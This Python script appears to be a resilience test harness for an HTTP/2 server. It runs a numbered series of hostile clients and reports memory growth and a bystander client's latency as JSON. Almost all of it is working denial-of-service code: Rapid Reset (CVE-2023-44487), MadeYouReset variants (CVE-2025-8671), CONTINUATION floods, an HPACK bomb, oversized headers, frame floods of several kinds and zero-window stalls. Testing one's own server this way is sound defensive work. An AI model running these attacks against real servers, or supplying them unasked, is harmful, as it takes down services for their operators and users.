"""What a hostile client of HTTP/2 can do, frame by frame, on the `hyperframe` and `hpack` packages.

    python http2.py ADDRESS PID          one line of JSON for each attack, in order

Every attack has a connection of its own, is bounded in frames, and ends. Meanwhile another client asks for `/whoami` over
a connection that it keeps, also in HTTP/2, and of another app; its slowest answer is `others_ms`, and what went wrong with it `others_failed`.
`outcome` is how the connection ended: `goaway CODE`, `reset CODES` (of its streams), `open`, or `closed`. `growth_kib` is by
how much the resident memory of the process was larger at the worst moment than when it began.
"""

import collections
import json
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame,
    SettingsFrame, WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATIENCE = 30


def resident(pid):
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS"))


class Other(threading.Thread):
    """A client that keeps the rules."""

    def __init__(self, address):
        super().__init__(daemon=True)
        self.address, self.over = address, False
        self.slowest, self.answers, self.failed = 0.0, 0, []

    def run(self):
        sock = socket.create_connection(self.address, PATIENCE)
        sock.settimeout(PATIENCE)
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        connection = h2.connection.H2Connection(config)
        connection.initiate_connection()
        while not self.over:
            begun = time.monotonic()
            try:
                self.ask(sock, connection)
            except Exception as error:  # whatever it is, it is told
                self.failed.append(repr(error))
                return
            self.answers += 1
            self.slowest = max(self.slowest, time.monotonic() - begun)
            time.sleep(0.005)

    def ask(self, sock, connection):
        stream = connection.get_next_available_stream_id()
        fields = [(":method", "GET"), (":scheme", "http"), (":authority", "other.test"), (":path", "/whoami")]
        connection.send_headers(stream, fields, end_stream=True)
        while True:
            sock.sendall(connection.data_to_send())
            data = sock.recv(65536)
            if not data:
                raise ConnectionError("closed")
            for event in connection.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    status = dict(event.headers)[":status"]
                    if status != "200":
                        raise ValueError(status)
                elif isinstance(event, h2.events.DataReceived):
                    connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.StreamEnded):
                    sock.sendall(connection.data_to_send())
                    return
                elif isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    raise ConnectionError(repr(event))


class Attacker:
    def __init__(self, address, settings=None, reads=True):
        self.sock = socket.create_connection(address, PATIENCE)
        self.sock.settimeout(PATIENCE)
        self.encoder, self.gone = Encoder(), False
        self.goaway, self.resets, self.closed = None, collections.Counter(), False
        self.statuses = 0
        self.sock.sendall(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reads = reads
        if reads:
            self.reader.start()

    def read(self):
        buffer = b""
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    break
                buffer += data
                while len(buffer) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
                    if len(buffer) < 9 + length:
                        break
                    body, buffer = buffer[9:9 + length], buffer[9 + length:]
                    frame.parse_body(memoryview(body))
                    if isinstance(frame, GoAwayFrame):
                        self.goaway = frame.error_code
                    elif isinstance(frame, RstStreamFrame):
                        self.resets[frame.error_code] += 1
                    elif isinstance(frame, HeadersFrame):
                        self.statuses += 1
        except OSError:
            pass
        self.closed = True

    def send(self, *frames):
        """False when nothing more can be sent."""
        data = b"".join(frame if isinstance(frame, bytes) else frame.serialize() for frame in frames)
        try:
            self.sock.sendall(data)
        except OSError:
            self.gone = True
        return not self.gone

    def head(self, stream, path="/whoami", method="GET", end=True, extra=()):
        fields = [(":method", method), (":scheme", "http"), (":authority", "shop.test"), (":path", path), *extra]
        flags = ["END_HEADERS"] + (["END_STREAM"] if end else [])
        return HeadersFrame(stream, data=self.encoder.encode(fields), flags=flags)

    def outcome(self, wait=2.0):
        """How it ended; one that stays open is given some time."""
        if not self.reads:
            self.reader.start()
        deadline = time.monotonic() + wait
        while not self.closed and time.monotonic() < deadline:
            time.sleep(0.01)
        if self.goaway is not None:
            return f"goaway {int(self.goaway)}"
        if self.closed:
            return "closed"
        if self.resets:
            return "reset " + ",".join(str(int(code)) for code in sorted(self.resets))
        return "open"


def rapid_reset(client):
    """CVE-2023-44487: a request and its end, at once."""
    for at in range(2000):
        if not client.send(client.head(1 + 2 * at, "/slow?ms=2000"), RstStreamFrame(1 + 2 * at, error_code=8)):
            return


def slow_reset(client):
    """The same, each after it was surely seen."""
    for at in range(1000):
        if not client.send(client.head(1 + 2 * at, "/slow?ms=2000")):
            return
        time.sleep(0.001)
        if not client.send(RstStreamFrame(1 + 2 * at, error_code=8)) or client.closed:
            return


def made_you_reset(ending):
    """CVE-2025-8671: a request, and something on it that the server must answer with a reset."""
    def attack(client):
        for at in range(800):
            stream = 1 + 2 * at
            if not client.send(client.head(stream, "/slow?ms=2000"), ending(client, stream)) or client.closed:
                return
            time.sleep(0.0005)
    return attack


def raw(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


RESETS = {
    "window_update_0": lambda client, stream: WindowUpdateFrame(stream, window_increment=1).serialize()[:9] + b"\0\0\0\0",
    "window_overflow": lambda client, stream: WindowUpdateFrame(stream, window_increment=0x7fffffff),
    "priority_of_wrong_length": lambda client, stream: raw(2, 0, stream, b"\0\0\0\0"),
    "priority_on_itself": lambda client, stream: raw(2, 0, stream, struct.pack(">IB", stream, 1)),
    "data_after_end": lambda client, stream: DataFrame(stream, data=b"x"),
    "headers_after_end": lambda client, stream: client.head(stream, "/again"),
}


def continuation_flood(size):
    def attack(client):
        block = client.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "shop.test"), (":path", "/")])
        client.send(HeadersFrame(1, data=block, flags=["END_STREAM"]))
        field = b"\x00\x01x" + (b"\x7f" + b"\x81\x3e" + b"a" * 8064 if size > 4 else b"\x01a")
        for _ in range(20000):
            data = field[:size] if size < 4 else field
            if size == 0:
                data = b""
            if not client.send(ContinuationFrame(1, data=data)) or client.closed:
                return
    return attack


def hpack_bomb(client):
    """One entry of 3.9 KB, named 16,000 times by one byte each."""
    client.encoder.header_table_size = 4096
    head = client.encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "shop.test"), (":path", "/bomb")])
    entry = b"\x40\x01x" + b"\x7f" + bytes([0x80 | ((3900 - 127) & 0x7f), (3900 - 127) >> 7]) + b"b" * 3900
    block = head + entry + b"\xbe" * 12000
    client.send(HeadersFrame(1, data=block[:16000], flags=["END_STREAM", "END_HEADERS"]))
    client.send(client.head(3, "/whoami"))


def large_head(client):
    """A head of 1 MiB."""
    extra = [(f"x-{at}", "v" * 4000) for at in range(256)]
    block = client.head(1, "/large", extra=extra).data
    client.send(HeadersFrame(1, data=block[:16000], flags=["END_STREAM"]))
    for at in range(16000, len(block), 16000):
        if not client.send(ContinuationFrame(1, data=block[at:at + 16000])):
            return


def settings_flood(client):
    frame = SettingsFrame(0, settings={3: 100}).serialize() * 50
    for _ in range(400):
        if not client.send(frame):
            return


def ping_flood(client):
    frame = PingFrame(0, opaque_data=b"pingpong").serialize() * 50
    for _ in range(400):
        if not client.send(frame):
            return


def window_flood(client):
    client.send(client.head(1, "/slow?ms=500"))
    frame = WindowUpdateFrame(0, window_increment=1).serialize() * 50
    for _ in range(400):
        if not client.send(frame):
            return


def priority_flood(client):
    for at in range(400):
        frames = b"".join(raw(2, 0, 1 + 2 * (at * 50 + one), struct.pack(">IB", 0, 1)) for one in range(50))
        if not client.send(frames):
            return


def unknown_flood(client):
    for _ in range(400):
        if not client.send(raw(0xbb, 0xff, 0, b"?" * 8) * 50):
            return


def empty_data_flood(client):
    client.send(client.head(1, "/upload", method="POST", end=False))
    for _ in range(400):
        if not client.send(DataFrame(1, data=b"").serialize() * 50) or client.closed:
            return


def tiny_data_flood(client):
    """Bodies of one byte a frame, on streams that an app takes no byte of while it sleeps."""
    for stream in range(1, 21, 2):
        client.send(client.head(stream, "/upload", method="POST", end=False))
    for _ in range(200):
        for stream in range(1, 21, 2):
            if not client.send(DataFrame(stream, data=b"x", pad_length=0).serialize() * 20) or client.closed:
                return


def padding_flood(client):
    client.send(client.head(1, "/upload", method="POST", end=False))
    for _ in range(150):
        if not client.send(DataFrame(1, data=b"", pad_length=255, flags=["PADDED"])) or client.closed:
            return


def zero_window(client):
    """60 answers of 4 MiB, and no room for a byte of them."""
    for at in range(60):
        client.send(client.head(1 + 2 * at, "/stream?kb=4096"))
    time.sleep(1.5)


def never_reads(client):
    """Room for all of it, and nobody who reads."""
    client.send(WindowUpdateFrame(0, window_increment=0x7fff0000))
    for at in range(60):
        client.send(client.head(1 + 2 * at, "/stream?kb=4096"))
    time.sleep(1.5)


def large_frame(client):
    client.send(client.head(1, "/upload", method="POST", end=False), raw(0, 0, 1, b"x" * (1 << 20)))


def headers_on_even_stream(client):
    client.send(client.head(2))


def push_promise(client):
    client.send(raw(5, 4, 1, struct.pack(">I", 2) + client.head(1).data))


def stream_ids_go_back(client):
    client.send(client.head(5))
    time.sleep(0.1)
    client.send(client.head(3))


ATTACKS = [
    ("rapid_reset", rapid_reset, {}, True),
    ("slow_reset", slow_reset, {}, True),
    *((f"made_you_reset_{name}", made_you_reset(ending), {}, True) for name, ending in RESETS.items()),
    ("continuation_8k", continuation_flood(8192), {}, True),
    ("continuation_tiny", continuation_flood(4), {}, True),
    ("continuation_empty", continuation_flood(0), {}, True),
    ("hpack_bomb", hpack_bomb, {}, True),
    ("large_head", large_head, {}, True),
    ("settings_flood", settings_flood, {}, False),
    ("ping_flood", ping_flood, {}, False),
    ("window_update_flood", window_flood, {}, True),
    ("priority_flood", priority_flood, {}, True),
    ("unknown_flood", unknown_flood, {}, True),
    ("empty_data_flood", empty_data_flood, {}, True),
    ("tiny_data_flood", tiny_data_flood, {}, True),
    ("padding_flood", padding_flood, {}, True),
    ("zero_window", zero_window, {4: 0}, True),
    ("never_reads", never_reads, {4: 0x7fffffff}, False),
    ("large_frame", large_frame, {}, True),
    ("even_stream", headers_on_even_stream, {}, True),
    ("push_promise", push_promise, {}, True),
    ("stream_ids_go_back", stream_ids_go_back, {}, True),
]


def main(address, pid):
    host, _, port = address.rpartition(":")
    address = (host, int(port))
    for name, attack, settings, reads in ATTACKS:
        other = Other(address)
        other.start()
        while not (other.answers or other.failed):
            time.sleep(0.005)
        before, worst = resident(pid), [0]

        def watch():
            while not other.over:
                worst[0] = max(worst[0], resident(pid))
                time.sleep(0.01)

        watcher = threading.Thread(target=watch, daemon=True)
        watcher.start()
        client = Attacker(address, settings, reads)
        if not reads:
            # A sender that nobody answers must not wait for room for ever.
            client.sock.settimeout(1)
        attack(client)
        outcome = client.outcome() if reads else "unread"
        other.over = True
        other.join(PATIENCE)
        watcher.join(PATIENCE)
        client.sock.close()
        said = {
            "attack": name, "outcome": outcome, "resets": {str(int(code)): n for code, n in client.resets.items()},
            "heads": client.statuses, "growth_kib": worst[0] - before, "others_ms": round(other.slowest * 1000, 1),
            "others": other.answers, "others_failed": other.failed,
        }
        print(json.dumps(said), flush=True)


main(sys.argv[1], int(sys.argv[2]))
